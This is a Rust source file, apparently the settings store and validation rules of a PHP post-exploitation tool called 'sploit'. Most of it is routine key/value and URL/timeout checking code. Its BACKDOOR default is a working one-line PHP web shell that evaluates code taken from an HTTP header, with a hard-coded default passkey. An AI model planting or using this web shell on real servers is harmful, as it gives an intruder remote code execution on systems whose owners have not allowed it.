//! Session settings store and the default syntax rules.
//!
//! Setting names are case-insensitive: every name is upper-cased on the way
//! in, so `target`, `Target` and `TARGET` address the same entry.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};
use url::Url;

use crate::services::Validator;

/// The target-defining setting. Changing it re-derives the link.
pub const TARGET: &str = "TARGET";
pub const BACKDOOR: &str = "BACKDOOR";
pub const PASSKEY: &str = "PASSKEY";
pub const TEXTEDITOR: &str = "TEXTEDITOR";
pub const SAVEPATH: &str = "SAVEPATH";
pub const SAVEFILE: &str = "SAVEFILE";
pub const REQ_TIMEOUT: &str = "REQ_TIMEOUT";
pub const REQ_USER_AGENT: &str = "REQ_USER_AGENT";

/// Placeholder replaced by the passkey when the payload is rendered.
pub const PASSKEY_PLACEHOLDER: &str = "%%PASSKEY%%";

/// Upper bound accepted for `REQ_TIMEOUT`, in seconds.
const MAX_TIMEOUT_SECS: u64 = 600;

/// Key/value mapping of setting names to string values.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(transparent)]
pub struct Settings {
    vars: BTreeMap<String, String>,
}

impl Settings {
    /// An empty store.
    pub fn new() -> Self {
        Self::default()
    }

    /// The built-in default settings.
    pub fn defaults() -> Self {
        let save_path = dirs::data_dir()
            .map(|d| d.join("sploit").to_string_lossy().into_owned())
            .unwrap_or_else(|| ".".to_string());

        let mut s = Self::new();
        s.insert(TARGET, "");
        s.insert(BACKDOOR, "<?php @eval($_SERVER['HTTP_%%PASSKEY%%']);?>");
        s.insert(PASSKEY, "phpSpl01t");
        s.insert(TEXTEDITOR, "vi");
        s.insert(SAVEPATH, &save_path);
        s.insert(SAVEFILE, "");
        s.insert(REQ_TIMEOUT, "10");
        s.insert(REQ_USER_AGENT, "Mozilla/5.0 (compatible; sploit)");
        s
    }

    /// Value of a setting, if it exists.
    pub fn get(&self, name: &str) -> Option<&str> {
        self.vars.get(&name.to_ascii_uppercase()).map(String::as_str)
    }

    /// Value of a setting, or the empty string.
    pub fn value(&self, name: &str) -> &str {
        self.get(name).unwrap_or("")
    }

    /// Whether a setting with this name exists.
    pub fn contains(&self, name: &str) -> bool {
        self.vars.contains_key(&name.to_ascii_uppercase())
    }

    /// Write a setting, returning its previous value.
    pub fn insert(&mut self, name: &str, value: &str) -> Option<String> {
        self.vars
            .insert(name.to_ascii_uppercase(), value.to_string())
    }

    /// Drop a setting, returning its value.
    pub fn remove(&mut self, name: &str) -> Option<String> {
        self.vars.remove(&name.to_ascii_uppercase())
    }

    /// Iterate over `(name, value)` pairs in name order.
    pub fn iter(&self) -> impl Iterator<Item = (&str, &str)> {
        self.vars.iter().map(|(k, v)| (k.as_str(), v.as_str()))
    }

    /// Setting names in order.
    pub fn names(&self) -> impl Iterator<Item = &str> {
        self.vars.keys().map(String::as_str)
    }

    /// Settings whose name starts with `prefix`, compared case-insensitively.
    pub fn matching(&self, prefix: &str) -> Vec<(&str, &str)> {
        let prefix = prefix.to_ascii_uppercase();
        self.iter()
            .filter(|(name, _)| name.starts_with(&prefix))
            .collect()
    }

    /// Overlay `other` on top of this store.
    pub fn merge<'a>(&mut self, other: impl IntoIterator<Item = (&'a str, &'a str)>) {
        for (name, value) in other {
            self.insert(name, value);
        }
    }

    pub fn len(&self) -> usize {
        self.vars.len()
    }

    pub fn is_empty(&self) -> bool {
        self.vars.is_empty()
    }
}

/// The default syntax rules over the whole settings mapping.
#[derive(Debug, Clone, Copy, Default)]
pub struct SettingRules;

impl SettingRules {
    /// Check the mapping and describe the first violation found.
    pub fn check(&self, settings: &Settings) -> std::result::Result<(), String> {
        for (name, value) in settings.iter() {
            if value.contains('\n') {
                return Err(format!("{name}: value must fit on one line"));
            }
            match name {
                TARGET => check_target(value)?,
                PASSKEY => {
                    if value.is_empty()
                        || !value.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                    {
                        return Err(format!("{name}: expected [A-Za-z0-9_]+"));
                    }
                },
                BACKDOOR => {
                    if !value.contains(PASSKEY_PLACEHOLDER) {
                        return Err(format!("{name}: missing {PASSKEY_PLACEHOLDER}"));
                    }
                },
                REQ_TIMEOUT => match value.parse::<u64>() {
                    Ok(secs) if (1..=MAX_TIMEOUT_SECS).contains(&secs) => {},
                    _ => {
                        return Err(format!(
                            "{name}: expected seconds in 1..={MAX_TIMEOUT_SECS}"
                        ));
                    },
                },
                TEXTEDITOR | SAVEPATH | REQ_USER_AGENT => {
                    if value.trim().is_empty() {
                        return Err(format!("{name}: must not be empty"));
                    }
                },
                _ => {},
            }
        }
        Ok(())
    }
}

fn check_target(value: &str) -> std::result::Result<(), String> {
    if value.is_empty() {
        return Ok(());
    }
    let url = Url::parse(value).map_err(|e| format!("{TARGET}: {e}"))?;
    if !matches!(url.scheme(), "http" | "https") {
        return Err(format!("{TARGET}: unsupported scheme '{}'", url.scheme()));
    }
    if url.host_str().is_none_or(str::is_empty) {
        return Err(format!("{TARGET}: missing host"));
    }
    Ok(())
}

impl Validator for SettingRules {
    fn validate(&self, settings: &Settings) -> bool {
        match self.check(settings) {
            Ok(()) => true,
            Err(reason) => {
                log::debug!("settings rejected: {reason}");
                false
            },
        }
    }
}
